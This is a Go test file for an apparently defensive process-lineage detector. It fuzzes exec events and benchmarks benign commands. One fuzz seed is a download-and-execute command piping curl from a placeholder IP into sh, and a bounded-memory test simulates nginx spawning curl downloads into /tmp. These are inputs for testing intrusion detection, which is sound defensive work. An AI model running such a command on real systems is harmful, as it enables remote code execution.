package lineage

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/internal/detectortest"
)

func TestRecordings(t *testing.T) { detectortest.Run(t, New) }

// Memory stays bounded however many origins do something.
func TestBounded(t *testing.T) {
	det, err := New(minewarden.Env{})
	if err != nil {
		t.Fatal(err)
	}
	d := det.(*detector)
	for i := range 3 * maxChains {
		svc := &minewarden.Process{Key: minewarden.ProcessKey{PID: int32(i + 10), Start: 1}, Name: "nginx", Exe: "/usr/sbin/nginx"}
		args := []string{"curl", "-o", fmt.Sprintf("/tmp/%d", i), "https://example.org/x"}
		p := &minewarden.Process{Key: minewarden.ProcessKey{PID: int32(i + 10), Start: 2}, Name: "curl", Exe: "/usr/bin/curl", Args: args, Parent: svc}
		d.Observe(&minewarden.Event{Time: time.Unix(int64(i), 0), Process: p, Data: &minewarden.Exec{Exe: p.Exe, Name: p.Name, Args: args}})
	}
	if len(d.chains.by) > maxChains || len(d.chains.order) > maxChains {
		t.Errorf("%d chains, %d in order: want at most %d", len(d.chains.by), len(d.chains.order), maxChains)
	}
}

func FuzzExec(f *testing.F) {
	f.Add("/tmp/x", "sh\x00-c\x00curl http://1.2.3.4/a | sh", "/tmp", int64(5))
	f.Add("memfd:x", "x", "", int64(0))
	f.Fuzz(func(t *testing.T, exe, args, cwd string, second int64) {
		det, err := New(minewarden.Env{})
		if err != nil {
			t.Fatal(err)
		}
		svc := &minewarden.Process{Key: minewarden.ProcessKey{PID: 10, Start: 1}, Name: "nginx", Exe: "/usr/sbin/nginx"}
		for i := range 2 {
			p := &minewarden.Process{Key: minewarden.ProcessKey{PID: int32(20 + i), Start: 2}, Exe: exe, Args: strings.Split(args, "\x00"), Parent: svc}
			for _, found := range det.Observe(&minewarden.Event{Time: time.Unix(second, 0), Process: p, Data: &minewarden.Exec{Exe: exe, Args: p.Args, Cwd: cwd}}) {
				if len(found.Evidence) == 0 {
					t.Error("a finding without evidence")
				}
			}
		}
	})
}

func benchmark(b *testing.B, exe string, args ...string) {
	det, err := New(minewarden.Env{})
	if err != nil {
		b.Fatal(err)
	}
	p := &minewarden.Process{Key: minewarden.ProcessKey{PID: 10, Start: 1}, Exe: exe, Args: args}
	for i := range 6 {
		p.Parent = &minewarden.Process{Key: minewarden.ProcessKey{PID: int32(20 + i), Start: 1}, Name: "php-fpm", Exe: "/usr/sbin/php-fpm8.4", Parent: p.Parent}
	}
	ev := &minewarden.Event{Time: time.Unix(1, 0), Process: p, Data: &minewarden.Exec{Exe: exe, Args: args, Package: "dpkg:x"}}
	b.ReportAllocs()
	for b.Loop() {
		if det.Observe(ev) != nil {
			b.Fatal("found something")
		}
	}
}

func BenchmarkCompiler(b *testing.B) {
	benchmark(b, "/usr/bin/x86_64-linux-gnu-gcc-14", "gcc", "-O2", "-c", "-o", "x.o", "x.c")
}

func BenchmarkShell(b *testing.B) {
	benchmark(b, "/usr/bin/dash", "sh", "-c", "/usr/bin/convert /var/www/in.png -resize 100x100 /var/www/out.png 2>/dev/null")
}
